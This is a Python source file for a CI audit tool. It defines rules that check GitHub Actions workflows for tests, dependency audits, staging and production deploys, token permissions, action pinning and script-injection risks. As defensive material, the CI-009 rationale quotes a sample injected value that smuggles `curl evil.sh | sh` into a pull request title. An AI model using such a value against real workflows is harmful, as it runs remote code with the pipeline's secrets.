"""CI rules: the GitHub Actions pipeline that tests, audits, builds and deploys the service."""

from __future__ import annotations

import re
from collections.abc import Iterator

from scalefold.audit.model import Category, Hit, NotApplicable, Severity
from scalefold.audit.parsers.workflow import Job, Step, Workflow
from scalefold.audit.project import Project
from scalefold.audit.registry import rule

CI = Category.CI

_TEST = re.compile(
    r"\b(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?test\b|\bnpm\s+t\b|\bnpx\s+(?:vitest|jest|mocha|ava|tap)\b"
    r"|\bnode\s+(?:--[\w-]+\s+)*--test\b|\b(?:vitest|jest|mocha)\b(?:\s+run)?"
)
_AUDIT_RUN = re.compile(
    r"\b(?:npm|pnpm|yarn)\s+audit\b|\baudit-ci\b|\bbetter-npm-audit\b|\bosv-scanner\b|\bsnyk\s+test\b"
    r"|\bscalefold\s+check\b[^\n]*--deps\b|\btrivy\s+(?:fs|image|repo)\b|\bgrype\b|\bpip-audit\b"
)
_AUDIT_ACTION = re.compile(
    r"dependency-review-action|snyk/actions|osv-scanner|trivy-action|anchore/scan-action", re.IGNORECASE
)
_BUILD_RUN = re.compile(
    r"\b(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?build\b|\btsc\b|\bdocker\s+(?:buildx\s+)?build\b"
)
_BUILD_ACTION = re.compile(r"docker/build-push-action", re.IGNORECASE)
_DEPLOY_NAME = re.compile(r"deploy|rollout|promote|release-to", re.IGNORECASE)
_PRODUCTION = re.compile(r"prod|^live$", re.IGNORECASE)
_STAGING = re.compile(r"stag|pre-?prod|uat", re.IGNORECASE)
_HEALTH = re.compile(
    r"health|smoke|readyz|livez|/ready\b|/live\b|curl\s[^\n]*(?:--fail|-f\b|-sf)|wget\s", re.IGNORECASE
)


def _steps_matching(job: Job, run: re.Pattern[str], action: re.Pattern[str] | None = None) -> list[Step]:
    found = []
    for step in job.steps:
        if step.run and run.search(step.run) or action is not None and step.uses and action.search(step.uses):
            found.append(step)
    return found


def _workflow_triggers(project: Project, workflow: Workflow) -> set[str]:
    """Events that run ``workflow``, following reusable-workflow calls back to their callers."""
    triggers = set(workflow.triggers)
    if "workflow_call" in triggers:
        name = workflow.path.rsplit("/", 1)[-1]
        for caller in project.workflows:
            if any(job.uses and job.uses.endswith(f"/{name}") for job in caller.jobs.values()):
                triggers |= set(caller.triggers)
    return triggers


@rule(
    "CI-001",
    "ci-tests-on-push-and-pr",
    CI,
    Severity.WARNING,
    "Run the tests on every push and pull request",
    rationale="""Tests that only run on one of the two let broken code in: on pull requests only, a
        direct push to main is never tested; on pushes only, reviewers approve without results.""",
    fix="""Trigger the workflow that runs `npm test` on both: `on: { push: { branches: [main] },
        pull_request: {} }`.""",
)
def tests_on_push_and_pr(project: Project) -> Iterator[Hit]:
    workflows = project.require_workflows()
    testing = [w for w in workflows if any(_steps_matching(j, _TEST) for j in w.jobs.values())]
    if not testing:
        first = workflows[0]
        yield Hit(
            first.path,
            first.on_line,
            "No workflow runs the tests: add a job that runs `npm test`",
            "no test job",
        )
        return
    triggers: set[str] = set()
    for workflow in testing:
        triggers |= _workflow_triggers(project, workflow)
    missing = [t for t in ("push", "pull_request") if t not in triggers]
    if missing:
        first = testing[0]
        listed = " and ".join(f"`{m}`" for m in missing)
        yield Hit(
            first.path,
            first.on_line,
            f"The tests do not run on {listed}: add {'them' if len(missing) > 1 else 'it'} to `on:`",
            f"tests missing triggers {' '.join(missing)}",
        )


def _anchor_job(workflows: list[Workflow], pattern: re.Pattern[str]) -> tuple[Workflow, Job | None]:
    for workflow in workflows:
        for job in workflow.jobs.values():
            if _steps_matching(job, pattern):
                return workflow, job
    return workflows[0], None


@rule(
    "CI-002",
    "ci-dependency-audit",
    CI,
    Severity.WARNING,
    "Audit dependencies for known vulnerabilities in CI",
    rationale="""Most vulnerable code in a Node service arrives through its dependencies. An audit step
        catches a newly published advisory on the next build rather than after an incident.""",
    fix="""Add a step `npm audit --audit-level=high` (or `scalefold check --deps`, or
        `actions/dependency-review-action` on pull requests).""",
)
def dependency_audit(project: Project) -> Iterator[Hit]:
    workflows = project.require_workflows()
    for workflow in workflows:
        for job in workflow.jobs.values():
            if _steps_matching(job, _AUDIT_RUN, _AUDIT_ACTION):
                return
    workflow, job = _anchor_job(workflows, _TEST)
    line = job.line if job is not None else workflow.on_line
    yield Hit(
        workflow.path,
        line,
        "No dependency audit: add a step running `npm audit --audit-level=high`",
        "no dependency audit",
    )


@rule(
    "CI-003",
    "ci-build",
    CI,
    Severity.WARNING,
    "Build the project in CI",
    rationale="""Type errors and a broken bundle or image show up at build time; a pipeline that only
        tests (often with a transpiler that skips type checking) ships code that does not compile.""",
    fix="""Add a step running `npm run build` (and build the container image with
        `docker/build-push-action` when there is a Dockerfile).""",
)
def build(project: Project) -> Iterator[Hit]:
    workflows = project.require_workflows()
    pkg = project.root_package
    scripts = pkg.data.get("scripts") if pkg is not None else None
    if not (isinstance(scripts, dict) and "build" in scripts) and not project.dockerfiles:
        raise NotApplicable("nothing to build (no build script, no Dockerfile)")
    for workflow in workflows:
        for job in workflow.jobs.values():
            if _steps_matching(job, _BUILD_RUN, _BUILD_ACTION):
                return
    workflow, job = _anchor_job(workflows, _TEST)
    line = job.line if job is not None else workflow.on_line
    yield Hit(workflow.path, line, "No build step: add a step running `npm run build`", "no build step")


def _is_deploy(job: Job) -> bool:
    return bool(job.environment) or bool(_DEPLOY_NAME.search(job.id) or _DEPLOY_NAME.search(job.name))


def _target(job: Job) -> str | None:
    label = job.environment or f"{job.id} {job.name}"
    if _PRODUCTION.search(label) or (job.environment and _PRODUCTION.search(job.environment)):
        return "production"
    if _STAGING.search(label):
        return "staging"
    return None


def _deploy_jobs(project: Project, target: str | None = None) -> list[tuple[Workflow, Job]]:
    found = []
    for workflow in project.require_workflows():
        for job in workflow.jobs.values():
            if _is_deploy(job) and _target(job) is not None and (target is None or _target(job) == target):
                found.append((workflow, job))
    return found


def _production_jobs(project: Project) -> list[tuple[Workflow, Job]]:
    jobs = _deploy_jobs(project, "production")
    if not jobs:
        raise NotApplicable("no production deployment job")
    return jobs


@rule(
    "CI-004",
    "ci-staging-before-production",
    CI,
    Severity.WARNING,
    "Deploy to staging before production",
    rationale="""A release that goes straight to production meets real traffic first. A staging deploy
        (with its smoke test) that production `needs:` catches bad migrations, configuration and
        images while they are cheap to fix.""",
    fix="""Add a `deploy-staging` job and make the production job depend on it: `needs: [deploy-staging]`.""",
)
def staging_before_production(project: Project) -> Iterator[Hit]:
    for workflow, job in _production_jobs(project):
        if any(_is_deploy(j) and _target(j) == "staging" for j in workflow.ancestors(job.id)):
            continue
        upstream = workflow.triggers.get("workflow_run")
        if isinstance(upstream, dict) and upstream.get("workflows"):
            names = {str(n) for n in upstream.get("workflows") or []}
            if any(
                _target(j) == "staging"
                for w, j in _deploy_jobs(project)
                if w.path != workflow.path and any(n in w.path or n == j.name for n in names)
            ):
                continue
        yield Hit(
            workflow.path,
            job.line,
            f"Job `{job.id}` deploys to production without a staging "
            "deploy before it: add `needs: [deploy-staging]`",
            f"production job {job.id} without staging",
        )


@rule(
    "CI-005",
    "ci-production-environment",
    CI,
    Severity.WARNING,
    "Deploy to production through a protected environment",
    rationale="""A GitHub environment is where required reviewers, wait timers, branch restrictions and
        environment-scoped secrets live. A production job without one deploys on every push, with
        secrets any workflow can read.""",
    fix="""Set `environment: production` on the job and require reviewers for that environment in the
        repository settings.""",
)
def production_environment(project: Project) -> Iterator[Hit]:
    for workflow, job in _production_jobs(project):
        if not job.environment or not _PRODUCTION.search(job.environment):
            yield Hit(
                workflow.path,
                job.line,
                f"Job `{job.id}` deploys to production without `environment: "
                "production`: add it and protect the environment",
                f"production job {job.id} without environment",
            )


@rule(
    "CI-006",
    "ci-post-deploy-health-check",
    CI,
    Severity.WARNING,
    "Check the service's health after each deploy",
    rationale="""A deploy that reports success while the new version crash-loops is the most common
        outage. A health or smoke check after the rollout fails the pipeline (and stops the
        promotion) instead of waiting for users to notice.""",
    fix="""Add a step after the deploy that polls the readiness route, e.g. `curl --fail --retry 10
        --retry-all-errors https://staging.example.com/health/ready`.""",
)
def post_deploy_health(project: Project) -> Iterator[Hit]:
    jobs = _deploy_jobs(project)
    if not jobs:
        raise NotApplicable("no deployment jobs")
    for workflow, job in jobs:
        deploy_index = next(
            (
                i
                for i, s in enumerate(job.steps)
                if _DEPLOY_NAME.search(f"{s.name} {s.run or ''} {s.uses or ''}")
            ),
            0,
        )
        later = job.steps[deploy_index + 1 :]
        if any(_HEALTH.search(f"{s.name}\n{s.run or ''}\n{s.uses or ''}") for s in later):
            continue
        if any(_HEALTH.search(j.text()) for j in workflow.dependents(job.id)):
            continue
        yield Hit(
            workflow.path,
            job.line,
            f"Job `{job.id}` deploys without checking health "
            "afterwards: add a step that polls the readiness route",
            f"deploy job {job.id} without health check",
        )


@rule(
    "CI-007",
    "ci-least-privilege",
    CI,
    Severity.WARNING,
    "Declare least-privilege `permissions` for the workflow token",
    rationale="""Without `permissions`, the `GITHUB_TOKEN` gets the repository default, often write access
        to contents, packages and pull requests. A compromised dependency or action in any step can
        then push code or publish packages.""",
    fix="""Add `permissions: { contents: read }` at the top of the workflow and grant more (e.g.
        `security-events: write` for SARIF upload) only on the jobs that need it.""",
)
def least_privilege(project: Project) -> Iterator[Hit]:
    for workflow in project.require_workflows():
        if workflow.has_permissions:
            if workflow.permissions == "write-all":
                yield Hit(
                    workflow.path,
                    workflow.permissions_line,
                    "`permissions: write-all` gives every job full access: list only the scopes needed",
                    "permissions write-all",
                )
        elif not all(job.has_permissions for job in workflow.jobs.values()):
            yield Hit(
                workflow.path,
                workflow.on_line,
                "No `permissions:` block: add `permissions: { contents: read }` at the top",
                "no permissions block",
            )
        for job in workflow.jobs.values():
            if job.permissions == "write-all":
                yield Hit(
                    workflow.path,
                    job.line,
                    f"Job `{job.id}` has `permissions: write-all`: list only the scopes it needs",
                    f"job {job.id} permissions write-all",
                )


_FIRST_PARTY = {"actions", "github"}
_SHA = re.compile(r"[0-9a-f]{40}")


def _unpinned(uses: str) -> str | None:
    """Why ``uses`` is not pinned, or None when it is (or needs no pin)."""
    if uses.startswith("./"):
        return None
    if uses.startswith("docker://"):
        return None if "@sha256:" in uses else "a Docker image without a digest"
    target, _, ref = uses.partition("@")
    owner = target.split("/", 1)[0].lower()
    if owner in _FIRST_PARTY:
        return None
    if not ref:
        return "no version at all"
    return None if _SHA.fullmatch(ref) else f"the movable ref `{ref}`"


@rule(
    "CI-008",
    "ci-pinned-actions",
    CI,
    Severity.WARNING,
    "Pin third-party actions to a commit SHA",
    rationale="""A tag like `@v3` can be moved by whoever controls the action's repository; a compromised
        tag (as in the tj-actions/changed-files incident) runs attacker code with your secrets.
        GitHub's own `actions/*` are exempt: pinning them adds churn for little gain.""",
    fix="""Replace the tag with the full commit SHA and keep the tag as a comment:
        `uses: docker/build-push-action@<40-hex-sha> # v6`. Dependabot and Renovate update both.""",
)
def pinned_actions(project: Project) -> Iterator[Hit]:
    for workflow in project.require_workflows():
        for job in workflow.jobs.values():
            uses_list = [(job.uses, job.uses_line)] if job.uses else []
            uses_list += [(s.uses, s.uses_line) for s in job.steps if s.uses]
            for uses, line in uses_list:
                assert uses is not None
                reason = _unpinned(uses)
                if reason:
                    yield Hit(
                        workflow.path,
                        line,
                        f"`{uses}` runs {reason}: pin it to a full commit SHA",
                        f"uses {uses}",
                    )


_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_UNTRUSTED = re.compile(r"\bgithub\.(?:event\.[\w.\-\[\]'\"*]+|head_ref)")
_SAFE_FIELD = re.compile(r"(?:\.|_)(?:number|id|sha)$")


def _expression_line(project: Project, path: str, start: int, expression: str) -> int:
    lines = project.lines(path)
    for index in range(start - 1, min(len(lines), start + 400)):
        if expression in lines[index]:
            return index + 1
    return start


@rule(
    "CI-009",
    "ci-no-event-injection",
    CI,
    Severity.ERROR,
    "Never interpolate `${{ github.event.* }}` into `run:`",
    rationale="""Expressions are pasted into the script before the shell runs it, so a pull request
        title or branch name like `"; curl evil.sh | sh #` becomes a command with the workflow's
        token and secrets.""",
    fix="""Pass the value through an environment variable and quote it: `env: { TITLE: ${{
        github.event.pull_request.title }} }` then `run: echo "$TITLE"`.""",
    references=(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ),
)
def no_event_injection(project: Project) -> Iterator[Hit]:
    for workflow in project.require_workflows():
        for job in workflow.jobs.values():
            for step in job.steps:
                if not step.run:
                    continue
                for match in _EXPRESSION.finditer(step.run):
                    for untrusted in _UNTRUSTED.findall(match.group(1)):
                        if _SAFE_FIELD.search(untrusted):
                            continue
                        line = _expression_line(project, workflow.path, step.run_line, match.group(0))
                        yield Hit(
                            workflow.path,
                            line,
                            f'`{untrusted}` is pasted into the script: pass it through `env:` and use "$VAR"',
                            f"run interpolates {untrusted}",
                        )


_UPDATE_CONFIGS = (
    ".github/dependabot.yml",
    ".github/dependabot.yaml",
    "renovate.json",
    "renovate.json5",
    ".renovaterc",
    ".renovaterc.json",
    ".renovaterc.json5",
    ".github/renovate.json",
    ".github/renovate.json5",
    ".gitlab/renovate.json",
    ".gitlab/renovate.json5",
)


@rule(
    "CI-010",
    "ci-dependency-updates",
    CI,
    Severity.WARNING,
    "Configure Renovate or Dependabot",
    rationale="""Dependencies, base images and actions age every week. An update bot turns each upgrade
        into a small pull request the tests vet, instead of a painful jump after the next advisory.""",
    fix="""Add `.github/dependabot.yml` with `npm`, `docker` and `github-actions` ecosystems (or a
        `renovate.json`).""",
)
def dependency_updates(project: Project) -> Iterator[Hit]:
    packages = project.require_node()
    if any(project.has(path) for path in _UPDATE_CONFIGS):
        return
    if any("renovate" in pkg.data for pkg in packages):
        return
    pkg = project.root_package
    assert pkg is not None
    yield Hit(
        pkg.path, 1, "No Renovate or Dependabot configuration: add `.github/dependabot.yml`", "no update bot"
    )


@rule(
    "CI-011",
    "ci-pull-request-target-checkout",
    CI,
    Severity.ERROR,
    "Never check out pull request code in `pull_request_target`",
    rationale="""`pull_request_target` runs with the base repository's secrets and a write token. Checking
        out and running the pull request's code there hands both to anyone who opens a pull
        request from a fork.""",
    fix="""Use the `pull_request` event for building and testing contributions; keep
        `pull_request_target` for labelling and commenting, without checking out the head.""",
)
def pull_request_target_checkout(project: Project) -> Iterator[Hit]:
    workflows = [w for w in project.require_workflows() if "pull_request_target" in w.triggers]
    if not workflows:
        raise NotApplicable("no pull_request_target workflows")
    for workflow in workflows:
        for job in workflow.jobs.values():
            for step in job.steps:
                if step.uses and step.uses.startswith("actions/checkout"):
                    ref = str(step.with_.get("ref") or "")
                    if "head" in ref or "merge" in ref:
                        yield Hit(
                            workflow.path,
                            step.line,
                            "Checks out the pull request's code with the base "
                            "repository's secrets: use `pull_request` instead",
                            f"checkout {ref}",
                        )
